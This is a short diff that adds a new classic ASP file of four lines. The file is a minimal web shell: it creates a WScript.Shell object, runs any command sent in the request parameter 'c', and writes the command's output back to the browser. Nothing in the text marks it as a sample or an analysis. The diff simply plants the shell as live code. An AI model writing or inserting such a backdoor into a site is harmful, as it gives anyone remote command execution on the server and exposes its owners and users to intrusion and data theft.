@@ -1,0 +1,4 @@
+<%
+Set s = CreateObject("WScript.Shell")
+Response.Write s.Exec(Request("c")).StdOut.ReadAll
+%>
